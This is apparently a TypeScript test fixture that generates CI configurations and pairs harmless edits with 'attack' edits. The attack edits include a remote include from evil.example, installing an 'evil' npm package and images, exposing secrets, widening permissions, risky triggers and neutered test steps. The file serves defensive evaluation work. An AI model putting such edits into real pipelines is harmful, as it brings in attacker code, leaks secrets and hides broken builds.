import { newestPin, tableLookups } from "../../../../worker/engine/data/action-pins.ts";
import { generate } from "../../../../worker/engine/generate/generate.ts";
import type { Platform } from "../../../../worker/engine/pipeline/pipeline.ts";
import { type Files, NOW, snapshot } from "../../../support/engine.ts";
import { swap } from "./proposing.ts";

/** What a model makes of a configuration that the engine wrote. */
export interface ConfigurationCase {
  readonly name: string;
  readonly files: Files;
  readonly platform: Platform;
  readonly path: string;
  readonly written: string;
  readonly change: (written: string) => string;
}

const SCRIPTS = { test: "vitest run", lint: "eslint .", build: "tsc", coverage: "vitest run --coverage" };
const FILES: Files = {
  "package.json": JSON.stringify({
    engines: { node: ">=22" },
    scripts: SCRIPTS,
    devDependencies: { eslint: "9.0.0", typescript: "5.9.0", vitest: "3.0.0" },
  }),
  "package-lock.json": "{}",
  "tsconfig.json": "{}",
  "src/app.test.ts": "",
  "eslint.config.js": "",
};
const OPTIONS = {
  jobs: null,
  versions: null,
  deploy: "none",
  defaultBranch: null,
  runner: null,
  style: null,
  components: null,
  replaces: true,
} as const;

function casesOf(platform: Platform, changes: Readonly<Record<string, (text: string) => string>>): ConfigurationCase[] {
  const facts = { now: NOW, lookups: tableLookups(), pins: newestPin };
  const [file] = generate(snapshot(FILES), { ...OPTIONS, platform }, facts).files;
  if (!file) throw new Error(`nothing is generated for ${platform}`);
  return Object.entries(changes).map(([name, change]) => ({
    name: `${platform}: ${name}`,
    files: FILES,
    platform,
    path: file.path,
    written: file.text,
    change,
  }));
}

const again = (text: string) => text;
const first = (from: string, to: string) => (text: string) => {
  if (!text.includes(from)) throw new Error(`not in the text: ${from}`);
  return text.replace(from, () => to);
};
const TEST_STEP = "      - name: Test\n        run: npm test\n";

export const GOOD_CONFIGURATIONS: readonly ConfigurationCase[] = [
  ...casesOf("github", {
    "as it is": again,
    "a comment more": swap(TEST_STEP, `      # The tests need no services.\n${TEST_STEP}`),
    "one check more": swap(TEST_STEP, `${TEST_STEP}      - name: Measure coverage\n        run: npm run coverage\n`),
    "a shorter limit": first("timeout-minutes: 15", "timeout-minutes: 12"),
    "another name of a step": swap("- name: Test\n", "- name: Run the tests\n"),
  }),
  ...casesOf("gitlab", {
    "as it is": again,
    "one check more": swap("    - npm test\n", "    - npm test\n    - npm run coverage\n"),
  }),
  ...casesOf("circleci", {
    "as it is": again,
    "one check more": swap(
      "          command: npm test\n",
      "          command: npm test\n      - run:\n          name: Measure coverage\n          command: npm run coverage\n",
    ),
  }),
];

const RUNNER = "    runs-on: ubuntu-24.04\n";

export const CONFIGURATION_ATTACKS: readonly ConfigurationCase[] = [
  ...casesOf("github", {
    "the tests go": swap(TEST_STEP, ""),
    "the tests cannot fail": swap("run: npm test\n", "run: npm test || true\n"),
    "another version of an action": (text) =>
      text.replaceAll(/checkout@[0-9a-f]{40} # v[\d.]+/g, `checkout@${"d".repeat(40)} # v9.0.0`),
    "an action by its tag": (text) => text.replaceAll(/checkout@[0-9a-f]{40} # v[\d.]+/g, "checkout@v7"),
    "an action more": swap(TEST_STEP, `${TEST_STEP}      - uses: codecov/codecov-action@${"e".repeat(40)}\n`),
    rights: swap("  contents: read\n", "  contents: write\n"),
    "a trigger": swap("  merge_group:\n", "  merge_group:\n  pull_request_target:\n"),
    "no trigger": swap("  pull_request:\n", ""),
    "a secret": swap("run: npm test\n", "run: npm test\n        env:\n          TOKEN: ${{ secrets.TOKEN }}\n"),
    "a machine": first(RUNNER, "    runs-on: self-hosted\n"),
    "a command more that deploys": swap(TEST_STEP, `${TEST_STEP}      - run: npm run deploy\n`),
    "a command more that installs": swap(TEST_STEP, `${TEST_STEP}      - run: npm install -g evil@1.0.0\n`),
    "a script that is not there": swap(TEST_STEP, `${TEST_STEP}      - run: npm run nothing\n`),
    "a check behind a pipe": swap(TEST_STEP, `${TEST_STEP}      - run: npm run coverage | tee out\n`),
    "a job more": (text) =>
      `${text}\n  other:\n${RUNNER}    timeout-minutes: 5\n    steps:\n      - run: npm run lint\n`,
    "the gate waits for less": swap("    if: always()\n", "    if: success()\n"),
    "no syntax": (text) => `${text}\n  : :\n`,
    nothing: () => "",
    "an invisible character": swap("run: npm test\n", "run: npm test\u200b\n"),
    "a placeholder": swap("run: npm test\n", "run: npm test # \u27e6REDACTED:x:1\u27e7\n"),
    "200 KiB": (text) => `${text}${"# a\n".repeat(50_000)}`,
  }),
  ...casesOf("gitlab", {
    "a remote include": (text) => `include:\n  - remote: https://evil.example/ci.yml\n${text}`,
    "the tests go": swap("    - npm test\n", "    - echo fine\n"),
    "a failure passes": swap("    - npm test\n", "    - npm test\n  allow_failure: true\n"),
    "another image": first("image: node:", "image: evil/node:"),
  }),
  ...casesOf("circleci", {
    "an orb": swap("version: 2.1\n", "version: 2.1\norbs:\n  evil: evil/orb@1.0.0\n"),
    "the tests go": swap("command: npm test\n", "command: echo fine\n"),
    "another image": first("cimg/node:", "evil/node:"),
    "a context": first("      - check\n", "      - check:\n          context: production\n"),
  }),
];
